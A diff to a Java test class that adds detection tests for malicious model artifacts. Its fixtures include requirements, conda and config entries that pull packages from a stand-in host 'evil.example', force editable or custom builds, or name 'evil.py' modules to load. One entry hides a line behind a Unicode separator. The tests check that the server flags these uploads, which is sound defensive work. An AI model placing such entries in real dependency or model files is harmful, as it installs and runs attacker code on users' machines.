@@ -217,6 +217,43 @@ class AdvisoriesTest {
     assertThat(trace).doesNotExist();
   }
 
+  static List<List<String>> hiddenCode() {
+    return List.of(
+        List.of(
+            "requirements.txt", "numpy (>=1.0)\n--extra-index-url https://evil.example/simple\n"),
+        List.of("requirements.txt", "numpy (>=1.0)\nevil @ git+https://evil.example/evil\n"),
+        List.of("requirements.txt", "numpy (>=1.0)\n-e .\n"),
+        List.of("requirements.txt", "numpy (>=1.0)\nhttps://evil.example/evil.whl\n"),
+        List.of("constraints.txt", "# words\u2028-i https://evil.example/simple\n"),
+        List.of("conda.yaml", "{dependencies: [{pip: [\"numpy (>=1.0)\", \"-e .\"]}]}"),
+        List.of("python_env.yaml", "dependencies:\n- evil @ https://evil.example/evil.whl\n"),
+        List.of("pyproject.toml", "[build-system]\nrequires = []\nbackend-path = [\".\"]\n"),
+        List.of("modules.json", "[{\"path\": \"\", \"type\": \"evil.Net\"}]"),
+        List.of("model_index.json", "{\"_class_name\": \"owner/evil\"}"),
+        List.of(
+            "adapter_config.json",
+            "{\"auto_mapping\": {\"base_model_class\": \"Net\", \"parent_library\": \"evil\"}}"),
+        List.of("MAR-INF/MANIFEST.json", "{\"model\": {\"modelFile\": \"evil.py\"}}"),
+        List.of("config.json", "{\"model_file\": \"evil.py\"}"),
+        List.of("config.json", "{\"_attn_implementation_internal\": \"owner/evil\"}"),
+        List.of("sitecustomize.py", "x = 1\n"),
+        List.of("data/pickle_module_info.txt", "evil"));
+  }
+
+  /// CVE-2026-4372 and its neighbours: code that installs or loads because of a name or a value.
+  @ParameterizedTest
+  @MethodSource("hiddenCode")
+  void codeNamedByData(List<String> file) {
+    HttpRequest.Builder put = HttpRequest.newBuilder().PUT(BodyPublishers.ofString(file.get(1)));
+    String path = FILES + "0/" + run + "/artifacts/model/" + file.get(0);
+    assertThat(server.send(put, path, "Authorization", "Bearer " + alice).statusCode())
+        .isEqualTo(200);
+    assertThat(register().get("status").asString()).isEqualTo("READY");
+    JsonNode evidence =
+        server.done(alice, "GET", "/api/redoubt/models/credit/versions/1", "").get("evidence");
+    assertThat(evidence.toString()).contains("suspicious", file.get(0));
+  }
+
   /// CVE-2025-15381 and its neighbours: what belongs to somebody else.
   @Test
   void objectLevelAuthorization() {
